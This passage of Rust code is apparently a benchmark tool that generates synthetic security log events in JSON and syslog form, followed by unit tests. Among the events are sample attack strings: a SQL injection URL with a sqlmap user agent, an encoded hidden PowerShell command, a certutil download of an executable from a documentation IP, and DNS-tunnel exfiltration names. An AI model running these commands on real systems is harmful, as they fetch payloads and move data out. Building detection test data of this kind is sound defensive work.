    Ok((sent, bytes))
}

/// Where each message of octet-counted frames (`LEN MSG`) lies in `data`, in order.
fn octet_spans(data: &[u8]) -> Vec<std::ops::Range<usize>> {
    let mut spans = Vec::new();
    let mut pos = 0;
    while pos < data.len() {
        let Some(space) = data[pos..].iter().position(|&b| b == b' ') else {
            break;
        };
        let Some(len) = std::str::from_utf8(&data[pos..pos + space])
            .ok()
            .and_then(|s| s.parse::<usize>().ok())
        else {
            break;
        };
        let start = pos + space + 1;
        let end = (start + len).min(data.len());
        spans.push(start..end);
        pos = end;
    }
    spans
}

/// The messages of octet-counted frames, without their length prefixes (one per datagram).
fn octet_frames(data: &[u8]) -> Vec<Vec<u8>> {
    octet_spans(data)
        .into_iter()
        .map(|span| data[span].to_vec())
        .collect()
}

/// The byte length of the first `n` octet-counted frames of `data`.
fn frame_prefix(data: &[u8], n: usize) -> usize {
    match n.checked_sub(1) {
        Some(last) => octet_spans(data)
            .get(last)
            .map_or(data.len(), |span| span.end),
        None => 0,
    }
}

/// A small, fast, deterministic random source (SplitMix64), so runs are comparable.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len() as u64) as usize]
    }

    /// True with probability `per_mille` / 1000.
    fn chance(&mut self, per_mille: u64) -> bool {
        self.below(1000) < per_mille
    }

    fn hex(&mut self, digits: usize) -> String {
        let mut s = String::with_capacity(digits);
        while s.len() < digits {
            s.push_str(&format!("{:016x}", self.next()));
        }
        s.truncate(digits);
        s
    }
}

const USERS: &[&str] = &[
    "alice",
    "bob",
    "carol",
    "dave",
    "erin",
    "frank",
    "grace",
    "heidi",
    "ivan",
    "judy",
    "mallory",
    "niaj",
    "olivia",
    "peggy",
    "rupert",
    "sybil",
    "trent",
    "victor",
    "walter",
    "svc_backup",
    "svc_deploy",
    "administrator",
];
const TENANTS: &[&str] = &["contoso", "fabrikam", "northwind", "tailspin", "wingtip"];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "curl/8.8.0",
    "python-requests/2.32.3",
];
const PATHS: &[&str] = &[
    "/api/v2/orders",
    "/api/v2/customers",
    "/api/v2/invoices/export",
    "/login",
    "/static/app.js",
    "/healthz",
    "/admin/users",
];

/// Generates the bench events: one service per batch, about 500 bytes of JSON per event.
struct Generator {
    rng: Rng,
    prefix: String,
    now_ms: i64,
}

impl Generator {
    fn new(seed: u64, prefix: &str) -> Self {
        Generator {
            rng: Rng(seed),
            prefix: prefix.to_owned(),
            now_ms: chrono::Utc::now().timestamp_millis(),
        }
    }

    fn time(&mut self) -> String {
        let ms = self.now_ms - self.rng.below(3_600_000) as i64;
        chrono::DateTime::from_timestamp_millis(ms)
            .unwrap_or_default()
            .to_rfc3339_opts(chrono::SecondsFormat::Millis, true)
    }

    fn ip(&mut self, internal: bool) -> String {
        let r = self.rng.next();
        if internal {
            format!("10.{}.{}.{}", r % 8, (r >> 8) % 64, 1 + (r >> 16) % 250)
        } else {
            // Documentation ranges, so no real address is ever named.
            let nets = ["192.0.2", "198.51.100", "203.0.113"];
            format!("{}.{}", nets[(r % 3) as usize], 1 + (r >> 8) % 254)
        }
    }

    /// One batch: (service, JSON-lines body).
    fn batch(&mut self, events: usize) -> (String, Vec<u8>) {
        let kind = self.rng.below(5);
        let service = format!(
            "{}{}",
            self.prefix,
            ["web", "auth", "vpn", "endpoint", "dns"][kind as usize]
        );
        let mut body = Vec::with_capacity(events * 560);
        for _ in 0..events {
            let event = match kind {
                0 => self.web(),
                1 => self.auth(),
                2 => self.vpn(),
                3 => self.endpoint(),
                _ => self.dns(),
            };
            serde_json::to_writer(&mut body, &event).unwrap_or_default();
            body.push(b'\n');
        }
        (service, body)
    }

    fn web(&mut self) -> serde_json::Value {
        let attack = self.rng.chance(5);
        let path = if attack {
            "/api/v2/customers?id=1%27%20OR%20%271%27=%271".to_owned()
        } else {
            format!("{}/{}", self.rng.pick(PATHS), self.rng.below(100_000))
        };
        let status = if attack {
            500
        } else {
            [200, 200, 200, 304, 404, 302][self.rng.below(6) as usize]
        };
        let method = self.rng.pick(&["GET", "GET", "GET", "POST", "PUT"]);
        let ip = self.ip(false);
        serde_json::json!({
            "@timestamp": self.time(),
            "event": {"kind": "event", "category": "web", "action": "http_request"},
            "host": {"name": format!("web-{:02}", self.rng.below(12))},
            "tenant": self.rng.pick(TENANTS),
            "source": {"ip": ip, "port": 1024 + self.rng.below(60_000)},
            "user": {"name": self.rng.pick(USERS)},
            "http": {"request": {"method": method, "bytes": self.rng.below(4000)},
                     "response": {"status_code": status, "bytes": self.rng.below(200_000)}},
            "url": {"original": path},
            "user_agent": {"original": if attack { "sqlmap/1.8.6#stable (https://sqlmap.org)" } else { self.rng.pick(AGENTS) }},
            "trace": {"id": self.rng.hex(32)},
            "message": format!("{ip} {method} {path} {status}"),
        })
    }

    fn auth(&mut self) -> serde_json::Value {
        let brute = self.rng.chance(20);
        let user = if brute {
            "administrator"
        } else {
            self.rng.pick(USERS)
        };
        let ok = !brute && !self.rng.chance(50);
        let ip = if brute {
            "203.0.113.66".to_owned()
        } else {
            let internal = self.rng.chance(700);
            self.ip(internal)
        };
        let outcome = if ok { "success" } else { "failure" };
        serde_json::json!({
            "@timestamp": self.time(),
            "event": {"kind": "event", "category": "authentication", "action": "user_login", "outcome": outcome},
            "host": {"name": format!("idp-{:02}", self.rng.below(3))},
            "tenant": self.rng.pick(TENANTS),
            "user": {"name": user, "domain": "CORP"},
            "source": {"ip": ip, "geo": {"country_iso_code": self.rng.pick(&["US", "DE", "FR", "GB", "NL", "BR"])}},
            "authentication": {"method": self.rng.pick(&["password", "password+totp", "webauthn", "saml"])},
            "session": {"id": self.rng.hex(24)},
            "user_agent": {"original": self.rng.pick(AGENTS)},
            "message": format!("login {outcome} for {user} from {ip}"),
        })
    }

    fn vpn(&mut self) -> serde_json::Value {
        let user = self.rng.pick(USERS);
        let start = self.rng.chance(500);
        let public = self.ip(false);
        let inside = self.ip(true);
        serde_json::json!({
            "@timestamp": self.time(),
            "event": {"kind": "event", "category": "network", "action": if start { "session_start" } else { "session_end" }},
            "host": {"name": format!("vpn-gw-{}", self.rng.below(2))},
            "tenant": self.rng.pick(TENANTS),
            "user": {"name": user},
            "source": {"ip": public, "port": 1024 + self.rng.below(60_000)},
            "client": {"nat": {"ip": inside}},
            "network": {"bytes": self.rng.below(50_000_000), "packets": self.rng.below(80_000), "transport": "udp"},
            "vpn": {"protocol": "wireguard", "session_id": self.rng.hex(16), "duration_s": self.rng.below(36_000)},
            "message": format!("vpn {} for {user}: {public} -> {inside}", if start { "session start" } else { "session end" }),
        })
    }

    fn endpoint(&mut self) -> serde_json::Value {
        let attack = self.rng.chance(10);
        let (image, command) = if attack {
            match self.rng.below(3) {
                0 => (
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
                ),
                1 => ("C:\\Windows\\System32\\whoami.exe", "whoami /priv"),
                _ => (
                    "C:\\Windows\\System32\\certutil.exe",
                    "certutil.exe -urlcache -split -f http://203.0.113.66/p.exe C:\\Users\\Public\\p.exe",
                ),
            }
        } else {
            *[
                (
                    "C:\\Windows\\System32\\svchost.exe",
                    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                ),
                (
                    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                    "\"chrome.exe\" --type=renderer --lang=en-US",
                ),
                (
                    "C:\\Windows\\System32\\cmd.exe",
                    "cmd.exe /c \"C:\\ProgramData\\scripts\\inventory.bat\"",
                ),
                ("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
            ]
            .get(self.rng.below(4) as usize)
            .unwrap_or(&("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"))
        };
        let computer = format!("ws-{:03}.corp.example", self.rng.below(300));
        serde_json::json!({
            "Event": {
                "System": {
                    "Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing"}},
                    "EventID": 4688,
                    "Channel": "Security",
                    "Computer": computer,
                    "EventRecordID": self.rng.below(10_000_000),
                    "TimeCreated": {"#attributes": {"SystemTime": self.time()}},
                },
                "EventData": {
                    "SubjectUserName": self.rng.pick(USERS),
                    "SubjectDomainName": "CORP",
                    "NewProcessId": format!("0x{:x}", self.rng.below(65_536)),
                    "NewProcessName": image,
                    "CommandLine": command,
                    "ParentProcessName": "C:\\Windows\\explorer.exe",
                    "TokenElevationType": "%%1936",
                },
            },
        })
    }

    fn dns(&mut self) -> serde_json::Value {
        let tunnel = self.rng.chance(5);
        let name = if tunnel {
            format!("{}.t.exfil-example.net", self.rng.hex(60))
        } else {
            format!(
                "{}.{}",
                self.rng
                    .pick(&["www", "api", "cdn", "login", "mail", "static"]),
                self.rng.pick(&[
                    "example.com",
                    "example.org",
                    "contoso.example",
                    "fabrikam.example"
                ])
            )
        };
        let client = self.ip(true);
        serde_json::json!({
            "@timestamp": self.time(),
            "event": {"kind": "event", "category": "network", "action": "dns_query"},
            "host": {"name": format!("resolver-{}", self.rng.below(2))},
            "tenant": self.rng.pick(TENANTS),
            "source": {"ip": client},
            "dns": {"question": {"name": name, "type": if tunnel { "TXT" } else { "A" }},
                    "response_code": "NOERROR", "answers_count": self.rng.below(4)},
            "network": {"transport": "udp", "protocol": "dns"},
            "process": {"name": "unbound", "pid": 800 + self.rng.below(50)},
            "message": format!("query {name} from {client}"),
        })
    }

    /// `count` RFC 5424 messages carrying JSON, octet-counted (RFC 6587) back to back.
    fn syslog_chunk(&mut self, count: usize) -> Vec<u8> {
        let mut out = Vec::with_capacity(count * 560);
        for _ in 0..count {
            let event = match self.rng.below(3) {
                0 => self.auth(),
                1 => self.vpn(),
                _ => self.dns(),
            };
            let host = event
                .pointer("/host/name")
                .and_then(serde_json::Value::as_str)
                .unwrap_or("bench")
                .to_owned();
            let msg = format!(
                "<86>1 {} {host} {}syslog {} - - {}",
                self.time(),
                self.prefix,
                1000 + self.rng.below(30_000),
                event
            );
            out.extend_from_slice(format!("{} ", msg.len()).as_bytes());
            out.extend_from_slice(msg.as_bytes());
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_loopback_servers_are_loaded() {
        for ok in [
            "http://127.0.0.1:8080",
            "http://localhost:1",
            "http://[::1]:8080/",
            "https://127.0.0.2",
        ] {
            assert!(check_loopback_url(ok).is_ok(), "{ok}");
        }
        for bad in [
            "http://10.0.0.1:8080",
            "http://example.com",
            "http://[2001:db8::1]:80",
        ] {
            assert!(check_loopback_url(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn generated_events_are_about_500_bytes_and_frames_split() {
        let mut g = Generator::new(1, "bench-");
        let (service, body) = g.batch(200);
        assert!(service.starts_with("bench-"));
        let lines: Vec<_> = body
            .split(|&b| b == b'\n')
            .filter(|l| !l.is_empty())
            .collect();
        assert_eq!(lines.len(), 200);
        let avg = body.len() / 200;
        assert!((300..=800).contains(&avg), "{avg} bytes per event");
        for l in lines {
            let v: serde_json::Value = serde_json::from_slice(l).unwrap();
            assert!(v.is_object());
        }
        let chunk = g.syslog_chunk(10);
        let messages = octet_frames(&chunk);
        assert_eq!(messages.len(), 10);
        assert!(messages.iter().all(|m| m.starts_with(b"<86>1 ")));
        assert_eq!(frame_prefix(&chunk, 10), chunk.len());
        let three = frame_prefix(&chunk, 3);
        assert!(three < chunk.len() && chunk[three].is_ascii_digit());
        assert!(chunk[three - 1] == b'}');
    }

    #[test]
    fn percentiles_of_sorted_latencies() {
        let v: Vec<Duration> = (1..=100).map(Duration::from_millis).collect();
        assert_eq!(percentile(&v, 50.0).round(), 51.0);
        assert_eq!(percentile(&v, 99.0).round(), 99.0);
        assert_eq!(percentile(&[], 99.0), 0.0);
    }
}
